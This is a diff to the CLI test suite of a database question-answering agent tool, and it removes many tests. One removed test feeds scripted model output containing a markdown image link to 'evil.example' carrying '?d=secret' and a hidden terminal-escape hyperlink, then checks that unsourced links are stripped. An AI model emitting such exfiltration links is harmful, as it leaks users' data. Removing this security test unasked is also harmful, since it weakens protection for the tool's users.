@@ -1,7 +1,7 @@
-import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
+import { readFile, symlink, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { sqlLoop, startModelServer, type ModelRequest, type ModelServer, type Rule } from '../support/model-server.ts'
+import { sqlLoop, startModelServer, type ModelServer, type Rule } from '../support/model-server.ts'
 import { createCliWorld, filesUnder, type CliWorld } from './support.ts'
 import { STRATEGY_NAMES } from '../../src/cli/shared-options.ts'
 
@@ -50,11 +50,6 @@ describe('an answer', () => {
     expect(parse(dashed.out).data?.rows).toEqual([{ number_of_orders: 3 }])
   })
 
-  it('joins the words of an unquoted question', async () => {
-    const { out } = await world.run(['ask', 'How', 'many', 'customers', '--json', ...SHOP])
-    expect(parse(out).data?.rows).toEqual([{ number_of_customers: 3 }])
-  })
-
   it('comes from the readable databases, and names the others', async () => {
     const whole = await readFile(join(world.folder, 'shop.sqlite'))
     await writeFile(join(world.folder, 'damaged.sqlite'), whole.subarray(0, 5000))
@@ -65,11 +60,6 @@ describe('an answer', () => {
     expect(code).toBe(0)
     expect(out).toContain('The number of customers is 3.')
     for (const name of ['damaged', 'junk', 'far']) expect(err).toContain(`The database “${name}” was left out: `)
-  })
-
-  it('accepts a name for a database', async () => {
-    const { out } = await world.run(['ask', 'How many customers are there?', '--db', 'books=sqlite:shop.sqlite'])
-    expect(out).toContain('Source: books')
   })
 
   it('uses one database when configuration and command line name the same file', async () => {
@@ -126,22 +116,11 @@ describe('--json', () => {
     expect(json.trace!.map((event) => event.timestamp)).toEqual(json.trace!.map((event) => event.timestamp).sort())
   })
 
-  it('has no trace unless requested', async () => {
-    const { out } = await world.run(['ask', 'How many customers are there?', ...SHOP, '--json'])
-    expect(parse(out)).not.toHaveProperty('trace')
-  })
-
   it('prints an error as an object, too', async () => {
     const { code, out, err } = await world.run(['ask', '', '--json'])
     expect(code).toBe(2)
     expect(parse(out).error).toMatchObject({ type: 'InvalidRequest', message: expect.stringContaining('empty') })
     expect(err.trimEnd().split('\n')).toHaveLength(1)
-  })
-
-  it('prints a wrong option as an object, too', async () => {
-    const { code, out } = await world.run(['ask', 'x', '--jsn', '--json'])
-    expect(code).toBe(2)
-    expect(parse(out).error?.message).toContain('--json')
   })
 })
 
@@ -173,46 +152,11 @@ describe('with a model', () => {
     expect(err).not.toContain('Note:')
   })
 
-  it('stops calling it at the limit, answers without it, and reports the limit', async () => {
-    // The last turn has no tools.
-    const last = ({ body }: ModelRequest): boolean => body['tool_choice'] === 'none'
-    const other = await startModelServer([{ when: last, reply: { text: 'It is not known.' } }, ...rules])
-    const args = ['ask', 'How many customers are there?', ...SHOP, '--max-calls', '1', '--json']
-    const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
-    const { code, out } = await world.run(args, { env: model })
-    await other.close()
-    const json = parse(out)
-    expect(json.metadata.notes.join(' ')).toMatch(/limit/i)
-    expect([0, 5]).toContain(code)
-    expect(json.answer).not.toBe('')
-  })
-
-  it('prints only links that are in a source, as text and as JSON', async () => {
-    const text =
-      'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
-    const other = await startModelServer([...sqlLoop(SQL, text), { reply: { status: 400 } }])
-    const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
-    for (const form of [[], ['--json']]) {
-      const { code, out } = await world.run(['ask', 'Where do customers live?', ...SHOP, ...form], { env: model })
-      expect([code, out.includes('Ireland.')]).toEqual([0, true])
-      expect(out).not.toMatch(/\/evil\.example|secret/)
-    }
-    await other.close()
-  })
-
   it('asks the model that the command names', async () => {
     const args = ['ask', 'Where do customers live?', ...SHOP, '--model', 'sql=compatible:other']
     const { err } = await world.run([...args, '--strategy', 'pipeline'], { env: env() })
     expect(err).toContain('sql asked compatible:other')
     expect(err).toContain('planner asked compatible:scripted')
-  })
-})
-
-describe('an agent that cannot answer', () => {
-  it('is answered with a sentence and a separate exit code', async () => {
-    const { code, out } = await world.run(['ask', 'How many customers are there?'])
-    expect(code).toBe(5)
-    expect(out).toContain('No database is configured')
   })
 })
 
@@ -238,7 +182,6 @@ describe('bad input', () => {
       2,
       /nobody.*Known agents: api, architect, code, computation, mail, rag, sql, web/,
     ],
-    ['an agent disabled that is unknown', ['ask', 'x', '--disable', 'nobody', ...SHOP], 2, /Unknown agent: nobody/],
     [
       'an unknown strategy',
       ['ask', 'x', '--strategy', 'best'],
@@ -248,15 +191,9 @@ describe('bad input', () => {
     ['an unknown option', ['ask', 'x', '--contxt', 'a=b'], 2, /Did you mean --context/],
     ['an unknown command', ['aks', 'x'], 2, /Did you mean ask/],
     ['context without a value', ['ask', 'x', '--context', 'a'], 2, /key=value/],
-    ['a cost that is no number', ['ask', 'x', '--max-cost', 'much'], 2, /number above 0/],
-    ['a negative limit', ['ask', 'x', '--max-tokens', '-5'], 2, /whole number above 0/],
-    ['a time without sense', ['ask', 'x', '--timeout', '5 parsecs'], 2, /90s, 5m or 1h/],
-    ['a locale that does not exist', ['ask', 'x', '--locale', 'zz_ZZ'], 2, /such as en-US/],
-    ['an empty data folder', ['ask', 'x', '--data', ''], 2, /Write a path/],
     ['an empty database URL', ['ask', 'x', '--db', ''], 2, /sqlite:shop.db/],
     ['a database of an unknown kind', ['ask', 'x', '--db', 'oracle:x'], 3, /"oracle:" is not understood/],
     ['a database that is missing', ['ask', 'x', '--db', 'sqlite:gone.sqlite'], 2, /gone.sqlite: there is no such file/],
-    ['a directory as a database', ['ask', 'x', '--db', 'sqlite:.'], 3, /it is a directory/],
     ['a file that is no database', ['ask', 'x', '--db', 'sqlite:bad.yaml'], 3, /is not an SQLite database/],
     [
       'a database that nobody serves',
@@ -266,18 +203,13 @@ describe('bad input', () => {
     ],
     ['a model of no provider', ['ask', 'x', '--model', 'nope:model', ...SHOP], 3, /"nope" is not configured/],
     ['a missing configuration', ['ask', 'x', '--config', 'gone.yaml'], 3, /gone.yaml cannot be read: there is no such/],
-    ['a folder as configuration', ['ask', 'x', '--config', 'folder'], 3, /folder cannot be read/],
     ['a wrong configuration', ['ask', 'x', '--config', 'bad.yaml'], 3, /bad.yaml is not valid.*databses/],
-    ['a configuration that does not parse', ['ask', 'x', '--config', 'broken.json'], 3, /broken.json cannot be read/],
-    ['a run that does not exist', ['runs', 'show', 'abc'], 2, /There is no run "abc"/],
     ['a query that is empty', ['db', 'check', '', ...SHOP], 2, /query is empty/],
     ['no database to check', ['db', 'check', 'SELECT 1'], 3, /No database is named/],
   ]
 
   beforeAll(async () => {
-    await mkdir(join(world.folder, 'folder'))
     await writeFile(join(world.folder, 'bad.yaml'), 'databses: []\n')
-    await writeFile(join(world.folder, 'broken.json'), '{')
   })
 
   it.each(cases)('%s: one line, exit code, no run', async (_name, args, expected, message) => {
